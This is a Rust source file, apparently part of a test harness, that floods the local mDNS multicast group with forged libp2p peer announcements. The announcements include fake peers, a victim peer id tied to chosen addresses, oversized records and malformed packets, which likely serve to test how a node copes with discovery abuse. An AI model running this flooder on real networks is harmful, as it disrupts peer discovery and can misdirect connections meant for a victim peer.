//! A flooder of the multicast group of DNS. Its options: `ip`, the address to send from. It prints that
//! and answers one request in the manner of a peer:
//!
//! - `flood` `{packets, victim, network}`: sends this number of packets, ten thousand a second or less,
//!   of every kind in [`lie`], and answers `{"sent": N}`. `victim` is a peer id, `network` the
//!   beginning of its addresses, as `10.77.0`.

use std::io::{self, BufRead};
use std::net::{Ipv4Addr, UdpSocket};
use std::time::Duration;

use hickory_proto::op::{Message, OpCode};
use hickory_proto::rr::rdata::{PTR, TXT};
use hickory_proto::rr::{Name, RData, Record};
use libp2p::PeerId;
use serde_json::{Value, json};

use crate::print_line;

const GROUP: (Ipv4Addr, u16) = (Ipv4Addr::new(224, 0, 0, 251), 5353);
const TTL: u32 = 120;
/// The longest packet that RFC 6762 allows, and the longest string of a TXT record.
const LONGEST: usize = 9000;
const LONGEST_STRING: usize = 255;

/// The flood lasts, or the victim would have read but one second's worth of it.
const AT_ONCE: u64 = 100;
const PAUSE: Duration = Duration::from_millis(8);

/// Runs until the input ends.
pub fn run(options: &str) {
    let options: Value = serde_json::from_str(options).expect("the options are JSON");
    let ip: Ipv4Addr = options["ip"].as_str().and_then(|ip| ip.parse().ok()).expect("an address");
    let socket = UdpSocket::bind((ip, 0)).unwrap();
    print_line(&json!({ "ip": ip }));
    for line in io::stdin().lock().lines() {
        let Ok(line) = line else { break };
        let request: Value = serde_json::from_str(&line).expect("a request is JSON");
        let params = &request["params"];
        let text = |key: &str| params[key].as_str().expect("a text");
        let (victim, network) = (text("victim"), text("network"));
        let packets = 0..params["packets"].as_u64().expect("a number");
        let sent = packets.filter(|n| {
            if n % AT_ONCE == 0 {
                std::thread::sleep(PAUSE);
            }
            // A send buffer that is full loses a packet; so does a network.
            socket.send_to(&lie(*n, victim, network), GROUP).is_ok()
        });
        let reply = json!({ "success": true, "sent": sent.count() });
        print_line(&json!({ "id": request["id"], "reply": reply }));
    }
}

fn lie(n: u64, victim: &str, network: &str) -> Vec<u8> {
    let stranger = stranger().to_string();
    let near = format!("/ip4/{network}.{}/tcp/{}", 100 + n % 100, 1024 + n % 60_000);
    match n % 8 {
        // Peers that don't exist, at addresses that anybody might have.
        0..3 => answer((0..8).map(|_| told(&near, &self::stranger().to_string()))),
        3 => answer(ELSEWHERE.iter().map(|address| told(address, &stranger))),
        // More addresses than any peer has, and addresses longer than any.
        4 => answer((1..90).map(|port| told(&format!("/ip4/{network}.7/tcp/{port}"), &stranger))),
        5 => answer((0..30).map(|_| {
            let room = LONGEST_STRING - told("/dns4//tcp/1", &stranger).len();
            told(&format!("/dns4/{}/tcp/1", "a".repeat(room)), &stranger)
        })),
        6 => answer([told(&near, victim)].into_iter()),
        _ => garbage(n),
    }
}

const ELSEWHERE: [&str; 5] = [
    "/ip4/127.0.0.1/tcp/4001",
    "/ip4/192.168.7.7/tcp/4001",
    "/ip4/8.8.8.8/udp/4001/quic-v1",
    "/dns4/example.com/tcp/4001",
    "/dnsaddr/example.com",
];

fn told(address: &str, peer: &str) -> String {
    format!("dnsaddr={address}/p2p/{peer}")
}

/// Makes an id that may be somebody's: the hash of a key nobody knows.
fn stranger() -> PeerId {
    let mut bytes = [0; 34];
    getrandom::fill(&mut bytes).unwrap();
    bytes[..2].copy_from_slice(&[0x12, 0x20]);
    PeerId::from_bytes(&bytes).unwrap()
}

fn answer(strings: impl Iterator<Item = String>) -> Vec<u8> {
    let name = |text: &str| Name::from_ascii(text).unwrap();
    let instance = name(&format!("{}._p2p._udp.local.", &stranger().to_string()[..40]));
    let mut message = Message::response(0, OpCode::Query);
    let pointer = RData::PTR(PTR(instance.clone()));
    message.add_answer(Record::from_rdata(name("_p2p._udp.local."), TTL, pointer));
    let text = RData::TXT(TXT::new(strings.collect()));
    message.add_additional(Record::from_rdata(instance, TTL, text));
    message.to_vec().unwrap()
}

/// Makes noise that names the service: behind a good header, behind one that promises more than it has,
/// and longer than any packet may be.
fn garbage(n: u64) -> Vec<u8> {
    let mut bytes = vec![0; if n % 64 == 7 { LONGEST + 1 } else { 600 }];
    getrandom::fill(&mut bytes).unwrap();
    if n % 16 == 7 {
        bytes[..12].copy_from_slice(&[0, 0, 0x84, 0, 0, 0, 0, 2, 0, 0, 0, 1]);
    }
    bytes[100..105].copy_from_slice(b"\x04_p2p");
    bytes
}
